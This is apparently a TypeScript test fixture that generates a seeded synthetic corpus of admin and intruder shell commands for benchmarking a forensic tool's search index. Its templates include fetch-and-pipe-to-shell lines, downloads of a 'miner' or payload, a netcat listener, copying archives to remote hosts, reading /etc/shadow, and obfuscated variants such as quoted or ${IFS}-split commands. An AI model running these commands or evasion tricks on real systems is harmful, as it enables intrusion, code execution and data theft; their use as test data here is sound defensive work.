// A deterministic, realistic command corpus for search benchmarks and large tests: about 45
// templates of what admins and intruders type (kubectl, git, apt, ssh, curl | sh, iptables,
// obfuscated variants, ...), 25 users, 12 hosts, sessions of 10–90 commands over 347 days,
// imported as 10 evidence items out of time order (so row ids are not chronological, as in a
// real case), with screen samples every ~20 commands.
import type { Database, SqlJsStatic } from 'sql.js';
import { migrate } from '../../electron/services/case/db/migration.js';
import { optimizeSearchIndex, updateSearchIndex } from '../../electron/services/search/search-index.js';
import { seededRandom } from './seeded-random.js';

export const USERS = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'niaj', 'olivia', 'peggy', 'rupert', 'sybil', 'trent', 'victor', 'walter', 'deploy', 'root', 'svc-backup', 'ci-runner', 'oscar', 'zoe'];
export const HOSTS = ['web-1', 'web-2', 'web-3', 'db-1', 'db-2', 'bastion', 'build-1', 'k8s-node-1', 'k8s-node-2', 'k8s-node-3', 'mail', 'vpn'];
const PODS = ['checkout', 'payments', 'cart', 'search', 'auth', 'gateway', 'inventory', 'shipping', 'notifications', 'reports'];
const FILES = ['/etc/passwd', '/etc/shadow', '/etc/hosts', '/etc/nginx/nginx.conf', '/var/log/syslog', '/var/log/auth.log', '~/.bash_history', '/etc/sudoers', '~/.ssh/authorized_keys', '/etc/crontab', '/tmp/x.sh', '/opt/app/config.yml', '/etc/fstab', '/proc/cpuinfo'];
const PKGS = ['nginx', 'curl', 'htop', 'vim', 'git', 'jq', 'postgresql-client', 'redis-tools', 'tcpdump', 'nmap', 'netcat-openbsd', 'python3-pip', 'docker.io', 'unzip'];
const WORDS = ['main', 'fix', 'release', 'hotfix', 'feature', 'payments', 'login', 'cache', 'retry', 'timeout', 'config', 'deploy', 'rollback', 'metrics', 'db'];

/** Start of the corpus: 2024-01-01T00:00:00Z in microseconds; it spans 347 days. */
export const CORPUS_START_US = Date.UTC(2024, 0, 1) * 1000;
export const CORPUS_DAYS = 347;
const DAY_US = 86_400_000_000;

export function makeCommand(r: () => number): string {
  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)] as T;
  const n = (k: number): number => Math.floor(r() * k);
  const hex = (k: number): string => Array.from({ length: k }, () => '0123456789abcdef'.charAt(n(16))).join('');
  const ip = (): string => `10.${n(4)}.${n(256)}.${n(256)}`;
  switch (n(45)) {
    case 0: return 'ls -la';
    case 1: return `cd ${pick(['/var/log', '/etc', '~/src/shop', '/opt/app', '/tmp', '..'])}`;
    case 2: return `sudo apt install -y ${pick(PKGS)}`;
    case 3: return `kubectl -n shop get pods -l app=${pick(PODS)}`;
    case 4: return `kubectl -n shop logs deploy/${pick(PODS)} --tail=${n(500)}`;
    case 5: return `kubectl -n shop rollout restart deploy/${pick(PODS)}`;
    case 6: return `git checkout -b ${pick(WORDS)}-${n(3000)}`;
    case 7: return `git commit -m "${pick(WORDS)} ${pick(WORDS)} #${n(5000)}"`;
    case 8: return `git log --oneline -n ${n(50)}`;
    case 9: return `vim ${pick(FILES)}`;
    case 10: return `cat ${pick(FILES)}`;
    case 11: return `sudo cat ${pick(FILES)}`;
    case 12: return `tail -f ${pick(FILES)} | grep -i ${pick(['error', 'warn', 'fail', 'denied', 'timeout'])}`;
    case 13: return `docker run --rm -it ${pick(['alpine', 'ubuntu:22.04', 'nginx:1.25', 'redis:7', 'postgres:16'])} ${pick(['sh', 'bash', 'true'])}`;
    case 14: return `docker ps -a --filter name=${pick(PODS)}`;
    case 15: return `ssh ${pick(USERS)}@${pick(HOSTS)} -p ${pick([22, 2222, 22022])}`;
    case 16: return `curl -s -H "Authorization: Bearer ${hex(24)}" https://api.internal/${pick(PODS)}/health`;
    case 17: return `curl -fsSL http://${ip()}/${pick(['x.sh', 'install.sh', 'a', 'payload'])} | sh`;
    case 18: return `wget -q http://${ip()}/${pick(['x.sh', 'miner', 'k.tgz'])} -O /tmp/${hex(6)}`;
    case 19: return `sudo iptables -A INPUT -s ${ip()} -j ${pick(['DROP', 'ACCEPT', 'REJECT'])}`;
    case 20: return `ps aux --sort=-%cpu | head -n ${n(20)}`;
    case 21: return 'top';
    case 22: return 'df -h';
    case 23: return `free -m`;
    case 24: return `grep -rn "${pick(WORDS)}" ~/src/shop/${pick(PODS)}`;
    case 25: return `find / -name "*.${pick(['pem', 'key', 'conf', 'log', 'bak'])}" -mtime -${n(30)} 2>/dev/null`;
    case 26: return `tar czf /tmp/${pick(PODS)}-${n(10000)}.tar.gz /var/www/${pick(PODS)}`;
    case 27: return `scp /tmp/${pick(PODS)}.tar.gz ${pick(USERS)}@${ip()}:/tmp/`;
    case 28: return `chmod ${pick(['600', '644', '755', '777', '+x'])} ${pick(FILES)}`;
    case 29: return `sudo systemctl ${pick(['restart', 'status', 'stop', 'start'])} ${pick(['nginx', 'postgresql', 'redis', 'docker', 'sshd'])}`;
    case 30: return `journalctl -u ${pick(['nginx', 'sshd', 'docker', 'kubelet'])} -n ${n(200)} --no-pager`;
    case 31: return `psql -h ${pick(HOSTS)} -U ${pick(USERS)} -c "select count(*) from orders where id > ${n(100000)}"`;
    case 32: return `echo ${hex(8)} | base64 -d`;
    case 33: return `history | tail -n ${n(40)}`;
    case 34: return 'sudo -i';
    case 35: return `rm -rf /tmp/${pick(PODS)}-${n(1000)}`;
    case 36: return `export PATH=$PATH:/opt/${pick(PODS)}/bin`;
    case 37: return `python3 -m http.server ${8000 + n(100)}`;
    case 38: return `nc -lvnp ${4000 + n(1000)}`;
    // Obfuscated variants, rarer: what fuzzy mode is for.
    case 39: return n(4) === 0 ? `c\\url -s http://${ip()}/${hex(4)} | /bin/ba''sh` : `curl -s http://${ip()}/${hex(4)} | bash`;
    case 40: return n(4) === 0 ? `w'g'et http://${ip()}/${hex(5)}` : `wget http://${ip()}/${hex(5)}`;
    case 41: return n(4) === 0 ? `cat\${IFS}${pick(FILES)}` : `cat ${pick(FILES)} | less`;
    case 42: return `ssh -i ~/.ssh/id_${pick(['ed25519', 'rsa'])} ${pick(USERS)}@${ip()}`;
    case 43: return `openssl s_client -connect ${pick(HOSTS)}:${pick([443, 8443, 993])}`;
    default: return `echo "${pick(WORDS)} ${n(100000)}" >> /tmp/notes.txt`;
  }
}

/** `count` distinct command texts, in generation order. */
export function distinctCommands(count: number, seed = 7): string[] {
  const r = seededRandom(seed);
  const seen = new Set<string>();
  while (seen.size < count) seen.add(makeCommand(r));
  return [...seen];
}

export interface CorpusOptions {
  commands: number;
  /** One screen sample per this many commands (0: none). */
  screenEvery?: number;
  seed?: number;
  /** Leave the rows unindexed (to time the indexer on its own). */
  noIndex?: boolean;
}

export interface CorpusTimings {
  insertMs: number;
  indexMs: number;
  optimizeMs: number;
}

/** Builds a case database with `commands` commands (and screens), indexed, into `db` (fresh). */
export function buildCorpus(SQL: SqlJsStatic, options: CorpusOptions): { db: Database; timings: CorpusTimings } {
  const db = new SQL.Database();
  migrate(db);
  const r = seededRandom(options.seed ?? 42);
  const screenEvery = options.screenEvery ?? 20;
  const slices = 10;
  const order = [3, 7, 0, 9, 5, 1, 8, 2, 6, 4];
  const perSlice = Math.ceil(options.commands / slices);
  const spanUs = CORPUS_DAYS * DAY_US;
  const started = performance.now();
  db.exec('BEGIN');
  const evidence = db.prepare(
    "INSERT INTO evidence (id, sha256, kind, file_name, stored_as, size, format, imported_at, imported_by, verdict) VALUES (?, ?, 'bundle', ?, ?, 0, 'trail', 0, 'bench', 'verified')",
  );
  const session = db.prepare('INSERT INTO sessions (id, evidence_id, session_key, user, host, tty) VALUES (?, ?, ?, ?, ?, ?)');
  const command = db.prepare('INSERT INTO commands (session_id, ts_us, seq, text, source, confidence, user, host) VALUES (?, ?, ?, ?, ?, 1, ?, ?)');
  const screen = db.prepare("INSERT INTO screen_text (session_id, ts_us, reason, text) VALUES (?, ?, 'command', ?)");
  let sessionId = 0;
  let made = 0;
  try {
    for (const slice of order) {
      if (made >= options.commands) break;
      const evidenceId = slice + 1;
      evidence.run([evidenceId, evidenceId.toString(16).padStart(64, '0'), `slice-${slice}.trail`, `evidence/${slice}`]);
      const start = CORPUS_START_US + Math.floor((slice * spanUs) / slices);
      const end = start + Math.floor(spanUs / slices);
      let inSlice = 0;
      while (inSlice < perSlice && made < options.commands) {
        sessionId++;
        const user = USERS[Math.floor(r() * USERS.length)] as string;
        const host = HOSTS[Math.floor(r() * HOSTS.length)] as string;
        session.run([sessionId, evidenceId, `s-${sessionId.toString(36)}`, user, host, `pts/${Math.floor(r() * 10)}`]);
        const count = Math.min(perSlice - inSlice, options.commands - made, 10 + Math.floor(r() * 80));
        let ts = Math.floor(start + r() * (end - start - 8 * 3_600_000_000));
        const recent: string[] = [];
        for (let i = 0; i < count; i++) {
          ts += Math.floor(1_000_000 + r() * 600_000_000);
          const text = makeCommand(r);
          command.run([sessionId, ts, i + 1, text, r() < 0.9 ? 'typed' : 'output', user, host]);
          recent.push(`${user}@${host}:~$ ${text}`);
          if (recent.length > 12) recent.shift();
          if (screenEvery > 0 && (made + i) % screenEvery === 0) screen.run([sessionId, ts + 500_000, recent.join('\n')]);
        }
        inSlice += count;
        made += count;
      }
    }
  } finally {
    evidence.free();
    session.free();
    command.free();
    screen.free();
  }
  const inserted = performance.now();
  if (options.noIndex === true) {
    db.exec('COMMIT');
    return { db, timings: { insertMs: inserted - started, indexMs: 0, optimizeMs: 0 } };
  }
  updateSearchIndex(db);
  const indexed = performance.now();
  db.exec('COMMIT');
  optimizeSearchIndex(db);
  const optimized = performance.now();
  return { db, timings: { insertMs: inserted - started, indexMs: indexed - inserted, optimizeMs: optimized - indexed } };
}
